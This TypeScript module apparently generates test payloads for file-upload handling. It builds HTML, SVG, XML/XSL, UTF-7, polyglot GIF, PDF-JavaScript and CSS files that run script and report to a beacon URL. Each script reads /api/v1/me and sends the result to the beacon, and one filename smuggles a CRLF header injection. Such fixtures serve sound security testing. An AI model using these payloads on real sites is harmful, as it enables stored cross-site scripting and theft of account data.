/** Bytes that try to run. Each says who it is when it does: on the console, to a beacon, in a cookie, in the title. */

export interface Payload {
  /** The name that it is uploaded under. */
  readonly name: string;
  readonly bytes: Uint8Array;
  /** The media type that the client claims for it. */
  readonly claimed?: string;
}

/** What a script does that was let to run. */
export function script(name: string, beacon: string): string {
  const who = JSON.stringify(name);
  return (
    `try{console.log("RAN",${who},self.origin)}catch(e){}` +
    `try{document.cookie="ran="+encodeURIComponent(${who})}catch(e){}` +
    `try{document.title="RAN"}catch(e){}` +
    `try{fetch("/api/v1/me").then(r=>r.text()).then(t=>fetch(${JSON.stringify(beacon)}+"?read="+encodeURIComponent(t),{mode:"no-cors"}))}catch(e){}` +
    `try{fetch(${JSON.stringify(beacon)}+"?ran="+encodeURIComponent(${who}),{mode:"no-cors"})}catch(e){}`
  );
}

const text = (content: string): Uint8Array => new TextEncoder().encode(content);

export function payloads(beacon: string): Payload[] {
  const run = (name: string) => script(name, beacon);
  const html = (name: string) => text(`<!doctype html><title>x</title><script>${run(name)}</script><img src=x onerror='${run(name)}'>`);
  const xhtml = (name: string) =>
    text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script><![CDATA[${run(name)}]]></script></html>`);
  const svg = (name: string) =>
    text(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run(name).replaceAll('"', "&quot;")}"><script><![CDATA[${run(name)}]]></script></svg>`);
  const utf16 = (content: string) => new Uint8Array(Buffer.from(`\ufeff${content}`, "utf16le"));
  const pdf = (name: string, before = "") =>
    text(
      `%PDF-1.7\n${before}1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n` +
        `2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n` +
        `4 0 obj<</S/JavaScript/JS(app.alert\\('${name}'\\);this.submitForm\\('${beacon}?ran=${name}'\\);)>>endobj\n` +
        `trailer<</Root 1 0 R>>\n%%EOF\n`,
    );
  return [
    { name: "page.html", bytes: html("page.html"), claimed: "text/html" },
    { name: "page.htm", bytes: html("page.htm") },
    { name: "page.xhtml", bytes: xhtml("page.xhtml"), claimed: "application/xhtml+xml" },
    { name: "page.xml", bytes: xhtml("page.xml"), claimed: "text/xml" },
    { name: "page.shtml", bytes: html("page.shtml") },
    { name: "page.mht", bytes: text(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>${run("page.mht")}</script>`) },
    { name: "no-extension", bytes: html("no-extension"), claimed: "text/html" },
    { name: "photo.png", bytes: html("photo.png"), claimed: "text/html" },
    { name: "notes.txt", bytes: html("notes.txt"), claimed: "text/html" },
    { name: "table.csv", bytes: html("table.csv") },
    { name: "data.json", bytes: html("data.json") },
    { name: "readme.md", bytes: html("readme.md") },
    { name: "wide.html", bytes: utf16(`<script>${run("wide.html")}</script>`) },
    { name: "seven.html", bytes: text(`<meta charset=utf-7>+ADw-script+AD4-${run("seven.html")}+ADw-/script+AD4-`) },
    { name: "evil.html\r\nX-Injected: 1", bytes: html("injected") },
    { name: 'quote".html', bytes: html("quote") },
    { name: "drawing.svg", bytes: svg("drawing.svg"), claimed: "image/svg+xml" },
    { name: "drawing.xml", bytes: svg("drawing.xml") },
    {
      name: "styled.xml",
      bytes: text(
        `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]>` +
          `<d><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">` +
          `<html><script><![CDATA[${run("styled.xml")}]]></script></html></xsl:template></xsl:stylesheet></d>`,
      ),
    },
    { name: "report.pdf", bytes: pdf("report.pdf"), claimed: "application/pdf" },
    { name: "report-page.pdf", bytes: pdf("report-page.pdf", `<script>${run("report-page.pdf")}</script>\n`), claimed: "text/html" },
    { name: "both.gif", bytes: text(`GIF89a=1;${run("both.gif")}`), claimed: "image/gif" },
    { name: "both.html", bytes: text(`GIF89a=1;${run("both.html")}//<script>${run("both.html")}</script>`), claimed: "text/html" },
    { name: "code.js", bytes: text(run("code.js")), claimed: "text/javascript" },
    { name: "code.mjs", bytes: text(run("code.mjs")), claimed: "text/javascript" },
    { name: "code.txt", bytes: text(run("code.txt")), claimed: "text/javascript" },
    { name: "code.json", bytes: text(run("code.json")), claimed: "application/json" },
    { name: "code", bytes: text(run("code")), claimed: "application/javascript" },
    { name: "look.css", bytes: text(`@import url("${beacon}?ran=look.css");body{background:url("${beacon}?ran=look.css-url")}`), claimed: "text/css" },
  ];
}

/** A zip of stored entries: enough of the format for a tool to unpack. */
export function zip(entries: readonly Payload[]): Uint8Array {
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const { name, bytes } of entries) {
    const path = Buffer.from(name);
    const sum = crc32(bytes);
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(0x0800, 2); // names in UTF-8
    common.writeUInt16LE(0, 4);
    common.writeUInt32LE(0x5821_0000, 6); // 2024-01-01
    common.writeUInt32LE(sum, 10);
    common.writeUInt32LE(bytes.length, 14);
    common.writeUInt32LE(bytes.length, 18);
    common.writeUInt16LE(path.length, 22);
    const header = Buffer.concat([Buffer.from("PK\x03\x04"), common, path, bytes]);
    const entry = Buffer.alloc(14);
    entry.writeUInt32LE(offset, 10);
    central.push(Buffer.concat([Buffer.from("PK\x01\x02\x14\x00"), common, entry, path]));
    local.push(header);
    offset += header.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(entries.length, 4);
  end.writeUInt16LE(entries.length, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(offset, 12);
  return new Uint8Array(Buffer.concat([...local, directory, Buffer.from("PK\x05\x06"), end]));
}

function crc32(bytes: Uint8Array): number {
  let sum = 0xffff_ffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit++) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb8_8320 : 0);
  }
  return (sum ^ 0xffff_ffff) >>> 0;
}
